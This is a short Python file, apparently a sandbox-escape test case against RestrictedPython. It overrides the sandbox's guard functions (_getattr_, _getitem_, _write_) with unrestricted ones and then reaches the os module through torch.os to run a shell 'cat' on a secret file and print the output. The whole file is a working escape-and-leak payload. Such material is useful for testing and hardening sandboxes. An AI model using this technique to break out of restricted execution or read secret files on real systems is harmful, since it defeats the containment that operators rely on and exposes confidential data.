"""
goal: bind the names of RestrictedPython's guards and thereby replace them
effect: leak
"""

import torch

_getattr_ = getattr
_getitem_ = lambda obj, at: obj[at]
_write_ = lambda obj: obj
__metaclass__ = type
print(torch.os.popen("cat " + SECRET_FILE).read())
